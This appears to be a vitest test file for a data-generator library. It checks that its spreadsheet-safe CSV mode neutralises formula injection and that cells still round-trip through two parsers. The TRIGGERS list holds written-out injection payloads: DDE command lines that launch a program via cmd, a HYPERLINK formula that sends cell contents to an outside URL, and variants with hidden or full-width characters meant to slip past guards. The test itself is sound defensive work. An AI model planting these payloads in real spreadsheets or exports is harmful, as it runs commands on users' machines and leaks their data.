import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  compileTemplate,
  type FormatOptions,
  generateFile,
  generateRows,
  type Plan,
  parseTemplate,
} from '@datamaker/engine';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, onTestFinished } from 'vitest';
import { here, python } from './python/python.ts';

/** FULL=1 is the figure of the goal: 100,000 rows. */
const ROWS = 500;
const PLANS = process.env['FULL'] === undefined ? 4 : 200;

const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const BEFORE = ['', ' ', '\t', '\n', '\r', '\u00a0', '\0', '\ufeff'];
/** What spreadsheets have been seen to run, and what has been tried to get past such guards. */
const TRIGGERS = [
  ...SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}SUM(1,1)`)),
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.org/?x="&A1,"click")',
  '"=1+1"',
  '";=1+1',
  ';=1+1',
  ',=1+1',
  '\t=1+1',
  'safe\n=1+1',
  'safe\r\n=1+1',
  "'=1+1",
  "''=1+1",
  '+49 170 1234567',
  '-5.20',
  '\r\n=1+1',
  '\t',
  '=',
];

/** Whether a spreadsheet takes a cell for a formula: signs that begin it, behind what it trims or does not show. */
const isFormula = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);
/** The documented way back. */
const unguarded = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);

async function planOf(fields: readonly object[]): Promise<Plan> {
  const parsed = parseTemplate({ fields });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.diagnostics));
  const plan = await compileTemplate(parsed.value, { seed: 'sheets' });
  if (!plan.ok) throw new Error(JSON.stringify(plan.diagnostics));
  return plan.value;
}

async function bytesOf(plan: Plan, format: FormatOptions, rows: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of generateFile(plan, format, 0, rows)) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** The cells of all lines, as Papa Parse and Python's csv read them. */
function parsers(bytes: Buffer, delimiter: string): string[][][] {
  const text = bytes.toString('utf8');
  const { data, errors } = Papa.parse<string[]>(text, { delimiter, newline: '\n' });
  expect(errors).toEqual([]);
  const lines = execFileSync(python(), [here('read_csv.py'), delimiter], { input: bytes, maxBuffer: 1 << 30 });
  const rows = lines.toString('utf8').trimEnd().split('\n');
  return [data.slice(0, -1), rows.map((line) => JSON.parse(line) as string[])];
}

const DELIMITERS = [
  [',', ','],
  ['tab', '\t'],
  [';', ';'],
] as const;

/** Texts in each way that a column comes to be: picked from a list, constant, computed, by a pattern, nested. */
const fieldsWith = (texts: readonly string[]): object[] => [
  { name: '=name', type: 'sequence' },
  { name: 'picked', type: 'enum', options: { values: texts } },
  { name: 'made', type: 'derived', options: { expression: '{{picked}}' } },
  { name: 'joined', type: 'derived', options: { expression: '{{picked}}x{{picked}}' } },
  { name: 'pattern', type: 'regex', options: { pattern: '[ \\t=+@\uff1d\u00a0a-c-]{0,2}[-=]?(\uff0b|x)?' } },
  { name: 'constant', type: 'constant', options: { value: texts[0] } },
  { name: 'object', type: 'constant', options: { value: { '=a': '=1' } } },
  { name: 'number', type: 'number', options: { min: -5, max: 5 } },
];
const TEXTS = [1, 2, 3, 4, 5];

describe('cells that spreadsheets would run', () => {
  expect(TRIGGERS.length).toBeGreaterThan(40);

  it.each(DELIMITERS)('are none in a safe CSV between %j, and come back whole', async (delimiter, character) => {
    for (const quoting of ['minimal', 'all'] as const) {
      const plan = await planOf(fieldsWith(TRIGGERS));
      const wanted = generateRows(plan, 0, ROWS).map((row) => Object.values(row));
      // Every one of them was drawn.
      expect(new Set(wanted.map((row) => row[1]))).toEqual(new Set(TRIGGERS));
      const bytes = await bytesOf(plan, { format: 'csv', delimiter, quoting, spreadsheetSafe: true }, ROWS);
      for (const [header = [], ...rows] of parsers(bytes, character)) {
        expect(header[0]).toBe("'=name");
        for (const row of rows)
          for (const at of TEXTS) expect([row[at], isFormula(row[at] ?? '')]).toEqual([row[at], false]);
        expect(rows.map((row) => TEXTS.map((at) => unguarded(row[at] ?? '')))).toEqual(
          wanted.map((row) => TEXTS.map((at) => row[at])),
        );
        // What is no text is as it was.
        expect(rows.map((row) => [row[0], row[6], row[7]])).toEqual(
          wanted.map((row) => [String(row[0]), '{"=a":"=1"}', String(row[7])]),
        );
      }
    }
  });

  it('are texts in a workbook, unchanged', async () => {
    const texts = TRIGGERS.map((text) => text.replace('\0', ''));
    const plan = await planOf(fieldsWith(texts));
    const folder = mkdtempSync(join(tmpdir(), 'dm-sheets-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const path = join(folder, 'a.xlsx');
    const bytes = await bytesOf(plan, { format: 'xlsx' }, ROWS);
    writeFileSync(path, bytes);
    const kinds = JSON.parse(
      execFileSync(python(), [here('read_xlsx_kinds.py'), path], { encoding: 'utf8' }),
    ) as object;
    expect(Object.keys(kinds).toSorted()).toEqual(['n', 's']);
  });
});

describe('texts of any kind', () => {
  const text = fc.oneof(
    fc.string({
      unit: fc.constantFrom('a', '"', "'", ',', ';', '\t', '\n', '\r', '=', '-', '+', '@', ' ', '\u00a0'),
      maxLength: 8,
    }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
    fc.string({ unit: 'binary', maxLength: 10 }),
    fc.constantFrom(...TRIGGERS),
  );
  const texts = fc.uniqueArray(text, { minLength: 100, maxLength: 200 });

  it.each([false, true])(
    'come back from two parsers as they were, with the guard: %s',
    async (spreadsheetSafe) => {
      let compared = 0;
      const plans = fc.asyncProperty(texts, fc.constantFrom(...DELIMITERS), async (list, [delimiter, character]) => {
        const plan = await planOf([
          { name: 'a', type: 'enum', options: { values: list } },
          { name: 'b', type: 'derived', options: { expression: '{{a}}' } },
          { name: 'c', type: 'enum', options: { values: list.toReversed() } },
        ]);
        const wanted = generateRows(plan, 0, ROWS).map((row) => Object.values(row));
        const bytes = await bytesOf(plan, { format: 'csv', delimiter, spreadsheetSafe }, ROWS);
        for (const [, ...rows] of parsers(bytes, character)) {
          const back = spreadsheetSafe ? rows.map((row) => row.map(unguarded)) : rows;
          expect(back).toEqual(wanted);
          compared += rows.length;
        }
      });
      await fc.assert(plans, { numRuns: PLANS, endOnFailure: true });
      expect(compared).toBeGreaterThanOrEqual(2 * PLANS * ROWS);
    },
    1_800_000,
  );
});
